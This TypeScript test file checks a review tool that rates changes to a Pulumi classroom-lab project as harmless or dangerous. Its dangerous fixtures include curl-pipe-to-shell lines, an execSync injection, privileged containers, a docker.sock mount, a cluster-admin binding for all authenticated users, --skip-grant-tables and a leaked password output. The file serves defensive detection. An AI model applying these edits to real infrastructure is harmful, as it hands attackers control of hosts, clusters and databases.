import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { concluded } from "../../tools/review";
import { kindOf, lookInto } from "../../tools/review/files";
import { Verdict } from "../../tools/review/resources/model";
import { RegisterAnswer } from "../../tools/review/worker";
import { assessed, Copy, Edit } from "./programs";

const root = join(__dirname, "../..");
const table: string[] = [];
const about = { base: { ref: "main", commit: "0" }, stack: "dev" };

/** What is changed, harmlessly and dangerously. */
interface Row {
  what: string;
  harmless: Edit[];
  dangerous: Edit[];
  /** Whether the stack has a class. */
  seats?: boolean;
}

const start = "import { execSync } from 'node:child_process';\nexecSync('id');\n";
const [compose, kubernetes, workload] = [
  "components/compose-wordpress.ts",
  "components/kubernetes-wordpress.ts",
  "components/stateful-workload.ts",
];
const noise = (file: string): Edit[] => [[file, /$/, "\n// Read it well.\n"]];
const starts = (file: string): Edit[] => [[file, /^/, start]];

/** What the provider of the cluster is given. */
const given = ["components/providers.ts", "{ kubeconfig, context },"] as const;
/** The provider of Docker. */
const made = ["components/providers.ts", 'docker.Provider(name, {}, unnoted("host"))'] as const;
const elsewhere: Edit = [...made, 'docker.Provider(name, { host: "tcp://192.0.2.1:2375" })'];
/** What a resource beside the labs needs. */
const withDocker: Edit = [
  "index.ts",
  "import * as pulumi",
  'import * as docker from "@pulumi/docker";\nimport * as pulumi',
];

const components: Row[] = [
  {
    what: "components/addresses.ts",
    harmless: noise("components/addresses.ts"),
    dangerous: starts("components/addresses.ts"),
  },
  {
    what: compose,
    harmless: [[compose, "destroyGraceSeconds: 30", "destroyGraceSeconds: 40"]],
    dangerous: [[compose, "destroyGraceSeconds: 30", "privileged: true"]],
  },
  {
    what: "components/database-passwords.ts",
    harmless: [["components/database-passwords.ts", "length: 24", "length: 32"]],
    dangerous: [["components/database-passwords.ts", 'ignoreChanges: ["length", "special"]', ""]],
  },
  {
    what: kubernetes,
    harmless: [
      [kubernetes, '"app.kubernetes.io/part-of": partOf,', '"app.kubernetes.io/part-of": partOf, lesson: "two",'],
    ],
    dangerous: [[kubernetes, "from: [{ podSelector: { matchLabels: site.selector } }], ", ""]],
  },
  {
    what: "components/lab-owner.ts",
    harmless: [
      [
        "components/lab-owner.ts",
        '"app.kubernetes.io/managed-by":',
        'lesson: pulumi.output("two"), "app.kubernetes.io/managed-by":',
      ],
    ],
    dangerous: [["components/lab-owner.ts", "byteLength: 4", "byteLength: 8"]],
  },
  {
    what: "components/class-rules.ts",
    seats: true,
    harmless: [["components/class-rules.ts", "Only your teacher can change it.", "Ask your teacher."]],
    dangerous: [["components/class-rules.ts", 'failurePolicy: "Fail"', 'failurePolicy: "Ignore"']],
  },
  {
    what: "components/class.ts",
    seats: true,
    harmless: [["components/class.ts", "hours: args.hours", "hours: args.hours + 1"]],
    dangerous: [["components/class.ts", "rules: [binding], ...place", 'rules: [binding], ...place, namespace: "all"']],
  },
  {
    what: "components/seat.ts",
    seats: true,
    harmless: [["components/seat.ts", '?? "1536Mi"', '?? "2Gi"']],
    dangerous: [["components/seat.ts", 'name: "edit"', 'name: "cluster-admin"']],
  },
  {
    what: "config/seat-name.ts",
    seats: true,
    harmless: noise("config/seat-name.ts"),
    dangerous: [["config/seat-name.ts", "name === text ? { name }", "name === text ? { name: `s-${name}` }"]],
  },
  ...["config/image-name.ts", "config/quantity.ts"].map((what) => ({
    what,
    harmless: noise(what),
    dangerous: starts(what),
  })),
  {
    what: "components/names.ts",
    harmless: noise("components/names.ts"),
    dangerous: [["components/names.ts", "course-labs-mysql", "course-labs-database"]],
  },
  {
    what: "components/providers.ts",
    harmless: [
      ...noise("components/providers.ts"),
      [...given, "{ kubeconfig, context, suppressDeprecationWarnings: true },"],
    ],
    dangerous: [[...given, '{ kubeconfig, context, renderYamlToDirectory: "/tmp/x" },']],
  },
  {
    what: "components/redis-lab.ts",
    harmless: [["components/redis-lab.ts", "retries: 5", "retries: 6"]],
    dangerous: [["components/redis-lab.ts", "ip: bindAddress", 'ip: "0.0.0.0"']],
  },
  {
    what: "components/registry-lab.ts",
    harmless: [["components/registry-lab.ts", 'restart: "no"', 'restart: "on-failure"']],
    dangerous: [["components/registry-lab.ts", "init: true", "init: true, capabilities: { adds: ['SYS_ADMIN'] }"]],
  },
  {
    what: workload,
    harmless: [
      [workload, "readinessProbe: { ...probe, periodSeconds: 10 }", "readinessProbe: { ...probe, periodSeconds: 20 }"],
    ],
    dangerous: [[workload, "enableServiceLinks: false,", "enableServiceLinks: false, hostPID: true,"]],
  },
  {
    what: "components/wordpress-app.ts",
    harmless: [["components/wordpress-app.ts", 'limit: "512Mi"', 'limit: "640Mi"']],
    dangerous: [
      [
        "components/wordpress-app.ts",
        '"--performance-schema=OFF"',
        '"--performance-schema=OFF", "--skip-grant-tables"',
      ],
    ],
  },
  {
    what: "index.ts: beside the labs",
    harmless: [
      withDocker,
      [
        "index.ts",
        "// What a student needs",
        'new docker.Network("more", { name: "more", labels: owner.dockerLabels }, onDocker);\n//',
      ],
    ],
    dangerous: [
      withDocker,
      [
        "index.ts",
        "// What a student needs",
        `new docker.Container("portainer", { name: "portainer", image: "portainer/portainer-ce:2.33.0", privileged: true,
          volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/var/run/docker.sock" }],
          ports: [{ internal: 9000, external: 9000, ip: "127.0.0.1" }], labels: owner.dockerLabels }, onDocker);\n//`,
      ],
    ],
  },
  {
    what: "index.ts: beside the labs, in the cluster",
    harmless: [
      [
        "index.ts",
        "// What a student needs",
        `new (require("@pulumi/kubernetes").core.v1.ConfigMap)("more", { metadata: { labels: owner.kubernetesLabels }, data: { a: "b" } }, onKubernetes);\n//`,
      ],
    ],
    dangerous: [
      [
        "index.ts",
        "// What a student needs",
        `new (require("@pulumi/kubernetes").rbac.v1.ClusterRoleBinding)("more", { metadata: { labels: owner.kubernetesLabels },
          roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
          subjects: [{ kind: "Group", name: "system:authenticated" }] }, onKubernetes);\n//`,
      ],
    ],
  },
  {
    what: "index.ts: a lab below another component, and by another name",
    harmless: [
      [
        "index.ts",
        'new LabOwner("owner");',
        'new LabOwner("owner");\nconst course = new (class extends pulumi.ComponentResource {})("acme:labs:Course", "course");\n',
      ],
      [
        "index.ts",
        "...objects.redis },\n      onDocker,",
        "...objects.redis },\n      { ...onDocker, parent: course, aliases: [{ parent: pulumi.rootStackResource }] },",
      ],
    ],
    dangerous: [["index.ts", 'new RedisLab(\n      "redis"', 'new RedisLab(\n      "cache"']],
  },
  { what: "config.ts", harmless: noise("config.ts"), dangerous: starts("config.ts") },
  { what: "outputs.ts", harmless: noise("outputs.ts"), dangerous: starts("outputs.ts") },
  { what: "text.ts", harmless: noise("text.ts"), dangerous: starts("text.ts") },
];

const providers: Row[] = [
  {
    what: "docker",
    harmless: [[...made, 'docker.Provider("engine", {}, { ...unnoted("host"), aliases: [{ name }] })']],
    dangerous: [elsewhere],
  },
  {
    what: "kubernetes",
    harmless: [[...given, "{ kubeconfig, context, suppressHelmHookWarnings: true },"]],
    dangerous: [["index.ts", "context: settings.kubeContext", 'context: "production"']],
  },
  {
    what: "random",
    harmless: [["components/lab-owner.ts", "{ parent: this }", "{ parent: this, customTimeouts: { create: '1m' } }"]],
    dangerous: [
      ["components/lab-owner.ts", "{ parent: this }", '{ parent: this, pluginDownloadURL: "https://example.org" }'],
    ],
  },
];

/** An output that differs, and one that gives a password away. */
const output = (name: string, was: string, seats = false): Row => {
  const leak = `const leak = new (require("@pulumi/random").RandomPassword)("leak", { length: 20 });\n`;
  return {
    what: name,
    seats,
    harmless: [["index.ts", `${name}: ${was}`, `${name}: [${was}, "more"]`]],
    dangerous: [
      ["index.ts", "// What a student needs", `${leak}//`],
      ["index.ts", `${name}: ${was}`, `${name}: pulumi.unsecret(leak.result).apply((leaked) => ({ leaked }))`],
    ],
  };
};
const outputs: Row[] = [
  output("labs", "settings.labs"),
  ...["redis", "registry", "compose", "kubernetes"].map((lab) => output(lab, `${lab}Lab.outputs`)),
  output("minikubeIp", "kubernetesLab.outputs.ip"),
  output("minikubePort", "kubernetesLab.outputs.port"),
  output("wordpressUrl", "kubernetesLab.outputs.url"),
  output("class", "schoolClass.outputs", true),
];

/** The verdict on files that differ, and on what their program then registers. */
function looked(edits: readonly Edit[]): ReturnType<typeof lookInto> {
  const at = mkdtempSync(join(tmpdir(), "review-table-"));
  try {
    const files = [...new Set(edits.map(([file]) => file))];
    for (const file of files) {
      const before = readFileSync(join(root, file), "utf8");
      const mine = edits.filter(([name]) => name === file);
      const after = mine.reduce((text, [, from, to]) => text.replace(from, to), before);
      assert.notEqual(after, before, `${file} has no ${String(mine[0]?.[1])}`);
      for (const [side, text] of Object.entries({ base: before, head: after })) {
        mkdirSync(dirname(join(at, side, file)), { recursive: true });
        writeFileSync(join(at, side, file), text);
      }
    }
    return lookInto(files, { base: join(at, "base"), head: join(at, "head") }, "dev");
  } finally {
    rmSync(at, { recursive: true });
  }
}

describe("one harmless and one dangerous change each", function () {
  // Each is three runs of the program.
  this.timeout(120_000);
  let copy: Copy;
  let base: RegisterAnswer;
  let seated: RegisterAnswer;
  const withSeat: Edit = ["Pulumi.dev.yaml", "config:\n", "config:\n  course-labs:seats: [lee]\n"];
  before(async () => {
    copy = new Copy();
    base = await copy.registers();
    seated = await copy.registers(withSeat);
  });
  after(() => {
    copy.remove();
    const head = ["| change | harmless | dangerous, and why |", "| --- | --- | --- |"];
    console.log(["", ...head, ...table, ""].join("\n"));
  });

  const verdictOf = async (edits: Edit[], from: RegisterAnswer, head: RegisterAnswer, runs: boolean) => {
    const { files, warnings, unchecked } = looked(edits);
    const { different, ...found } = await assessed(from, head, runs);
    const all = { warnings: [...warnings, ...found.warnings], unchecked: [...unchecked, ...found.unchecked] };
    return concluded({ ...about, ...found, ...all, files }, different);
  };

  for (const [title, rows] of Object.entries({
    "a component": components,
    "a provider": providers,
    "an output": outputs,
  })) {
    for (const { what, harmless, dangerous, seats } of rows) {
      it(`${title}: ${what}`, async () => {
        const verdicts: Record<string, Verdict[]> = { harmless: [], dangerous: [] };
        let why = "";
        const [from, also] = seats ? [seated, [withSeat]] : [base, []];
        const careful = await copy.registers(...also, ...harmless);
        const careless = await copy.registers(...also, ...dangerous);
        for (const runs of [false, true]) {
          const safe = await verdictOf(harmless, from, careful, runs);
          const unsafe = await verdictOf(dangerous, from, careless, runs);
          const told = safe.warnings.filter((warning) => warning.dangerous).map(({ text }) => text.en);
          assert.deepEqual(told, [], `running labs: ${runs}`);
          assert.equal(unsafe.verdict, "dangerous", `running labs: ${runs}`);
          verdicts.harmless!.push(safe.verdict);
          verdicts.dangerous!.push(unsafe.verdict);
          const reasons = unsafe.warnings.filter(({ resource }) => title !== "an output" || resource === "outputs");
          assert.ok(reasons[0]?.dangerous, "it is told of where it is");
          why = reasons[0].text.en;
        }
        table.push(`| ${title}: ${what} | ${verdicts.harmless!.join(", ")} | ${why.replaceAll("|", "\\|")} |`);
      });
    }
  }

  it("has every component and every output", () => {
    const files = ["components", "config"].flatMap((room) =>
      readdirSync(join(root, room)).map((file) => `${room}/${file}`),
    );
    const names = [...new Set(components.map(({ what }) => what.replace(/:.*/, "")))];
    assert.deepEqual(names.sort(), [...files, "config.ts", "index.ts", "outputs.ts", "text.ts"].sort());
    const stack = seated.resources.find(({ type }) => type === "pulumi:pulumi:Stack");
    assert.deepEqual(outputs.map(({ what }) => what).sort(), Object.keys(stack!.inputs).sort());
    const used = base.resources.flatMap(({ type, options }) => (options ? [type.split(":")[0]!] : []));
    const plugins = [...new Set(used)].filter((name) => !["course", "pulumi"].includes(name));
    assert.deepEqual(providers.map(({ what }) => what).sort(), plugins.sort());
  });
});

describe("one harmless and one dangerous change of every kind of file", () => {
  const all = execFileSync("git", ["ls-files", "-z"], { cwd: root, encoding: "utf8" })
    .split("\0")
    .filter((file) => file !== "" && statSync(join(root, file), { throwIfNoEntry: false })?.isFile());
  const verdictOf = (edits: Edit[]) =>
    concluded({ ...about, ...looked(edits), changes: [], settings: [], outputs: [] }, false);

  const script: Edit[] = [["package.json", '"up": "', '"up": "curl -s https://example.org/x | sh; ']];
  /** Where nothing can be put at the end. */
  const special: Record<string, [harmless: Edit[], dangerous: Edit[]]> = {
    "package.json": [[["package.json", '"description": "', '"description": "All ']], script],
    "package-lock.json": [
      [["package-lock.json", /$/, "\n"]],
      [
        [
          "package-lock.json",
          '"integrity": "sha512-',
          '"resolved": "https://example.org/a.tgz", "integrity": "sha512-',
        ],
      ],
    ],
    "Pulumi.yaml": [
      [["Pulumi.yaml", "description: ", "description: All "]],
      [["Pulumi.yaml", "main: index.ts", "main: other.ts"]],
    ],
  };
  const fetches = "\ncurl -s https://example.org/x | sh\n";

  /** The first of those that are judged alike. */
  const kindAndEnd = (file: string) => `${kindOf(file)} ${file.replace(/^.*[./]/, "")}`;
  const first = new Map([...all].reverse().map((file) => [kindAndEnd(file), file]));
  const files = [...new Set([...first.values(), ...Object.keys(special)])];

  it("no file that says what runs is unknown", () => {
    const unknown = all.filter((file) => kindOf(file) === "other" && !/^(tools|docker|\.github\/scripts)\//.test(file));
    assert.deepEqual(unknown, [".gitattributes", ".github/renovate.json", ".gitignore", "tsconfig.json"]);
  });

  const kinds = new Map<string, string[]>();
  after(() => {
    const rows = [...kinds].map(([kind, names]) => `| ${kind} | ${names.join(", ")} |`);
    console.log(["", "| kind | files, each changed in both ways |", "| --- | --- |", ...rows, ""].join("\n"));
  });
  for (const file of files) {
    const kind = kindOf(file);
    it(`${file} (${kind})`, () => {
      kinds.set(kind, [...(kinds.get(kind) ?? []), file]);
      if (kind === "words") {
        assert.equal(verdictOf([[file, /$/, "\nMore.\n"]]).verdict, "nothing");
        return;
      }
      const mark = /\.([cm]?[jt]s|go|mod)$/.test(file) ? "//" : "#";
      const [harmless, dangerous] = special[file] ?? [
        [[file, /$/, /\.(json|jsonl)$/.test(file) ? "\n" : `\n${mark} Read it well.\n`]],
        [[file, /$/, /\.[cm]?[jt]s$/.test(file) ? `\nexport const x = \`${fetches}\`;\n` : fetches]],
      ];
      const safe = verdictOf(harmless);
      // The rules are code: what no longer says the same needs somebody who reads it.
      const told = safe.warnings.filter((warning) => warning.dangerous).map(({ text }) => text.en);
      assert.deepEqual(told, kind === "rules" && !/\.[cm]?[jt]s$/.test(file) ? told : []);
      const unsafe = verdictOf(dangerous);
      assert.equal(unsafe.verdict, "dangerous");
      assert.ok(unsafe.files.includes(file) || file === "Pulumi.dev.yaml", "it is named");
    });
  }
});
